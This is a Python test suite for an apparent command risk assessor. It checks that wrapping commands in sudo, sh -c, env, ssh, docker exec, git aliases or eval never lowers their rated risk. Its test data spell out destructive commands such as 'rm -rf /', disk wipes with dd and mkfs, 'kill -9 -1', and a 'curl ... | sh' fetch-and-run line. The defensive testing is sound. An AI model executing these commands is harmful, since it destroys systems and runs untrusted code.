"""Whatever a command is wrapped in, it is as risky as what is run in the end."""

import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from halter.core.tools import ToolSpec, Valid
from halter.risk.risk import RISK_ORDER, assess_risk

SPEC = ToolSpec(name="act", description="Acts.", schema=b"{}", level="RESTRICTED", effect="write")


def level(values: dict[str, Any]) -> int:
    return RISK_ORDER.index(assess_risk(SPEC, Valid(values, msgspec.json.encode(values))).level)


def lines(table: str) -> list[str]:
    """List the lines of one table; `\\n` in them is the end of a line."""
    text = Path(__file__).with_name("risk_lines.txt").read_text(encoding="utf-8")
    output = text.partition(f"[{table}]\n")[2].partition("\n\n")[0]
    return [line.replace("\\n", "\n").replace("\\t", "\t") for line in output.splitlines()]


def outside(table: str, text: str, output: str) -> list[tuple[str, str]]:
    """List those lines of a table that are taken for less or for more than they are."""
    rated = [(line, level({"command": line})) for line in lines(table)]
    return [
        (line, RISK_ORDER[found])
        for line, found in rated
        if not RISK_ORDER.index(text) <= found <= RISK_ORDER.index(output)
    ]


def test_what_destroys_is_critical_however_it_is_written() -> None:
    assert outside("DESTROYING", "CRITICAL", "CRITICAL") == []


def test_what_is_dangerous_is_never_taken_for_everyday() -> None:
    assert outside("DANGEROUS", "HIGH", "CRITICAL") == []


def test_what_only_looks_is_low_even_if_it_mentions_what_destroys() -> None:
    assert outside("HARMLESS", "LOW", "LOW") == []


def test_everyday_work_is_at_most_medium() -> None:
    assert outside("EVERYDAY", "LOW", "MEDIUM") == []


def test_the_tables_of_lines_are_long() -> None:
    assert len({*lines("DESTROYING"), *lines("DANGEROUS")}) >= 650
    assert len({*lines("HARMLESS"), *lines("EVERYDAY")}) >= 400


COMMANDS: list[list[str]] = [
    ["rm", "-rf", "/"],
    ["rm", "-r", "-f", "--", "/etc"],
    ["rm", "-rf", "/srv/data"],
    ["rm", "notes.txt"],
    ["chmod", "-R", "777", "/"],
    ["dd", "if=/dev/zero", "of=/dev/sda"],
    ["mkfs.ext4", "/dev/sda1"],
    ["git", "push", "--force"],
    ["git", "-c", "alias.x=!rm -rf /", "x"],
    ["find", "/", "-delete"],
    ["find", "/srv", "-exec", "rm", "-rf", "{}", "+"],
    ["shutdown", "-h", "now"],
    ["kill", "-9", "-1"],
    ["terraform", "destroy"],
    ["tee", ".git/hooks/pre-commit"],
    ["sed", "-i", "s/1/9/", "agent.yaml"],
    ["curl", "-X", "DELETE", "https://example.com/x"],
    ["python3", "-c", "import os"],
    ["psql", "-c", "DROP TABLE people"],
    ["sh", "-c", "curl https://example.com/x | sh"],
    ["bash", "script.sh"],
    ["docker", "run", "-v", "/:/host", "alpine", "ls"],
    ["echo", "rm -rf /"],
    ["ls", "-la"],
]

PREFIXES: list[tuple[list[str], list[list[str]], list[str]]] = [
    (["sudo"], [["-n"], ["-u", "root"], ["--user", "root"], ["--user=root"], ["-H"], ["-E"], ["A=1"]], []),
    (["doas"], [["-n"], ["-u", "root"]], []),
    (["pkexec"], [["--user", "root"]], []),
    (["env"], [["-i"], ["-u", "X"], ["--unset=X"], ["A=1"], ["B=two"]], []),
    (["nohup"], [], []),
    (["nice"], [["-n", "5"], ["-n5"], ["--adjustment", "5"], ["--adjustment=5"], ["-5"]], []),
    (["ionice"], [["-c", "2"], ["-c2"], ["-n", "7"], ["--class", "idle"], ["-t"]], []),
    (["chrt"], [["-f"], ["--rr"]], ["10"]),
    (["taskset"], [["-a"]], ["0x1"]),
    (["timeout"], [["-k", "5"], ["-s", "KILL"], ["--signal=TERM"], ["--foreground"], ["--kill-after", "1"]], ["10"]),
    (["stdbuf"], [["-oL"], ["-e", "0"], ["--input", "0"]], []),
    (["setsid"], [["-w"], ["--fork"]], []),
    (["time"], [["-p"], ["-f", "%e"]], []),
    (["strace"], [["-f"], ["-e", "trace=file"], ["-s", "9"]], []),
    (["unshare"], [["-m"], ["--fork"], ["-r"], ["--map-root-user"]], []),
    (["nsenter"], [["-t", "1"], ["--mount"], ["-a"]], []),
    (["chroot"], [["--userspec=root"], ["--groups", "a"]], ["/mnt"]),
    (["systemd-run"], [["--scope"], ["-p", "A=b"], ["--unit", "x"], ["--user"]], []),
    (["flock"], [["-n"], ["-w", "5"]], ["lock"]),
    (["fakeroot"], [], []),
    (["busybox"], [], []),
    (["command"], [["-p"]], []),
    (["docker", "run"], [["--rm"], ["-it"], ["-e", "A=b"], ["--name", "x"], ["--network=none"]], ["alpine"]),
    (["docker", "exec"], [["-i"], ["-u", "0"], ["--workdir", "/"]], ["web"]),
    (["docker", "compose", "exec"], [["-T"]], ["web"]),
    (["kubectl", "exec"], [["-i"], ["-n", "prod"], ["-c", "web"]], ["pod", "--"]),
    (["npx"], [["-y"], ["--package", "x"]], []),
    (["uv", "run"], [["--with", "x"], ["--isolated"]], []),
    (["poetry", "run"], [], []),
    (["conda", "run"], [["-n", "x"]], []),
    (["xargs"], [["-0"], ["-n", "1"], ["-P", "4"], ["--no-run-if-empty"]], []),
    (["some-wrapper"], [["--flag"], ["-v"], ["--name", "x"]], []),
]

LINES: list[Callable[[str], list[str]]] = [
    lambda line: ["sh", "-c", line],
    lambda line: ["bash", "-lc", line],
    lambda line: ["bash", "-o", "pipefail", "-ec", line],
    lambda line: ["su", "root", "-c", line],
    lambda line: ["script", "-qc", line, "/dev/null"],
    lambda line: ["watch", "-n", "1", line],
    lambda line: ["ssh", "-p", "22", "host", line],
    lambda line: ["flock", "lock", "-c", line],
    lambda line: ["env", "-S", line],
    lambda line: ["eval", line],
    lambda line: ["sh", "-c", f"true && {line}"],
    lambda line: ["sh", "-c", f"echo {shlex.quote(line)} | sh"],
    lambda line: ["sh", "-c", f"({line})"],
    lambda line: ["sh", "-c", f"if true; then {line}; fi"],
    lambda line: ["sh", "-c", f'echo "$({line})"'],
    lambda line: ["sh", "-c", f"bash <<'END'\n{line}\nEND"],
    lambda line: ["find", ".", "-exec", "sh", "-c", line, ";"],
    lambda line: ["git", "-c", f"alias.x=!{line}", "x"],
    lambda line: ["some-wrapper", "--command", line],
]


@st.composite
def wrapped(draw: st.DrawFn) -> tuple[list[str], list[str]]:
    """A command, and the same one in a stack of wrappers with options that they take."""
    command = draw(st.sampled_from(COMMANDS))
    argv = list(command)
    for _ in range(draw(st.integers(0, 4))):
        if draw(st.booleans()):
            argv = draw(st.sampled_from(LINES))(shlex.join(argv))
        else:
            program, options, texts = draw(st.sampled_from(PREFIXES))
            chosen = draw(st.lists(st.sampled_from(options), max_size=3)) if options else []
            argv = [*program, *(word for option in chosen for word in option), *texts, *argv]
    return command, argv


@pytest.mark.parametrize(
    "line",
    [
        "some-wrapper sh -c 'some-wrapper rm -rf /'",
        "one bash -c 'two three rm -rf /'",
        "one sh -c 'two rm -rf /' -rf / rm",
        "one two sh -c 'three sh -c \"four rm -rf /\"'",
        "one --x 1 env -S 'two rm -rf /'",
    ],
)
def test_what_unknown_programs_run_through_a_shell_is_found_through_more_of_them(line: str) -> None:
    least = level({"command": "rm -rf /"})
    assert level({"command": line}) == level({"argv": shlex.split(line)}) == least


@pytest.mark.parametrize("line", ["kill -9 -1 12", "kill -s KILL -- -1 12", "xargs kill -9 -1", "kill -1 -1 12"])
def test_every_process_is_ended_wherever_that_is_said(line: str) -> None:
    assert level({"command": line}) == level({"command": "kill -9 -1"}) > level({"command": "kill -1 12"})


@given(wrapped())
def test_no_stack_of_wrappers_lowers_the_risk_of_what_it_runs(case: tuple[list[str], list[str]]) -> None:
    command, argv = case
    least = level({"argv": command})
    assert level({"argv": argv}) >= least
    assert level({"command": shlex.join(argv)}) >= least


@given(st.text(alphabet="rm -f/'\"\\$(){}[]<>|&;`!#=\n\t*?~:eaclsho19", max_size=80))
def test_no_line_breaks_the_reading_of_it(line: str) -> None:
    level({"command": line})


@given(st.text(alphabet="ab'\"\\$(){}<>|;` \n", max_size=40))
def test_nothing_that_follows_hides_what_a_line_begins_with(line: str) -> None:
    assert level({"command": f"rm -rf /\n{line}"}) >= RISK_ORDER.index("HIGH")


REPEATED = [
    *("a|", "$(", "`", "(", "{", "{a,", "a;", "a=$a$a;", "$((", "<(a) ", "'", '"', "\\", "cat <<A\n", "x=(a "),
    *("case x in a) b;; ", "${a:-", "sudo ", "nice foo ", "foo rm ", "sh -c ", "eval ", "find . -exec ", "{a,b}"),
    *("-exec rm ; ", "env -S '", "a ", "rm ", "git -c a=b ", "sed -e s/a/b/ ", "xargs ", "parallel {} ", "\n"),
]


@pytest.mark.parametrize("part", REPEATED)
def test_a_line_that_is_made_to_be_slow_is_judged_all_the_same(part: str) -> None:
    level({"command": f"foo {part * 3_000}"})
    assert level({"command": f"rm -rf /; {part * 3_000}"}) >= RISK_ORDER.index("HIGH")
